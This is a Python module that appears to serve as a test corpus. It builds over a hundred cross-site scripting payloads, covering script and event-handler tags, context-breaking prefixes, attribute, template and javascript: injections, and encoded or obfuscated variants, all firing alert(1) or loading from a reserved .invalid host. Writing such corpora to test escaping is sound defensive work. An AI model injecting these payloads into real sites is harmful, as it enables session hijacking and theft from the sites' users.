"""Texts that would run in a page that forgets to escape: over a hundred, by context."""

CALL = "alert(1)"
_TAGS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src=//x.invalid/a.js></script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror='{c}'>",
    '<img src="x" onerror="{c}">',
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c}>a</a>",
    "<form action=javascript:{c}><input type=submit>",
    "<button formaction=javascript:{c}>a",
    "<input onfocus={c} autofocus>",
    "<select onfocus={c} autofocus>",
    "<video><source onerror={c}>",
    "<audio src=x onerror={c}>",
    "<details open ontoggle={c}>",
    "<marquee onstart={c}>",
    "<math><a xlink:href=javascript:{c}>a",
    "<link rel=stylesheet href=//x.invalid/a.css>",
    "<style>@import '//x.invalid/a.css';</style>",
    "<meta http-equiv=refresh content='0;//x.invalid'>",
    "<base href=//x.invalid/>",
    "<template><script>{c}</script></template>",
    "<b style=x onclick={c}>a",
    "<div hx-get=/vi/ hx-trigger=load>",
    "<div hx-on::load='{c}'>",
    "<div hx-vals='js:{{a:{c}}}'>",
    "<plaintext>",
    "<textarea autofocus onfocus={c}>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
)
_BREAKS = (
    '"><{p}',
    "'><{p}",
    "</textarea><{p}",
    "</title><{p}",
    "</option></select><{p}",
    "--><{p}",
    "</script><{p}",
    "]]><{p}",
    "</td></tr></table><{p}",
    "\"'`><{p}",
)
_INNER = ("script>{c}</script>", "img src=x onerror={c}>", "svg onload={c}>", "x onclick={c}>")
_ATTRIBUTES = (
    '" onfocus={c} autofocus x="',
    "' onfocus={c} autofocus x='",
    '" onmouseover="{c}',
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "data:text/html,<script>{c}</script>",
    "';{c};'",
    '";{c};"',
    "`${{{c}}}`",
    "{{{{ {c} }}}}",
    "{{% load %}}",
    "${{{c}}}",
    "<%= {c} %>",
    "#{{{c}}}",
)
_CODED = (
    "&lt;script&gt;{c}&lt;/script&gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "<scr\u200bipt>{c}</script>",
    "<<script>{c}//<</script>",
    "<script\n>{c}</script\n>",
    "<img/src=x/onerror={c}>",
    "<img\tsrc=x\tonerror={c}>",
    "<!--<img src='--><img src=x onerror={c}>'>",
    "<![CDATA[<script>{c}</script>]]>",
)


def payloads() -> list[str]:
    """Return every payload; all hold "alert(1)" or an address that must never be asked."""
    breaks = [outer.format(p=inner.format(c=CALL)) for outer in _BREAKS for inner in _INNER]
    plain = [text.format(c=CALL) for text in (*_TAGS, *_ATTRIBUTES, *_CODED)]
    return [*plain, *breaks]
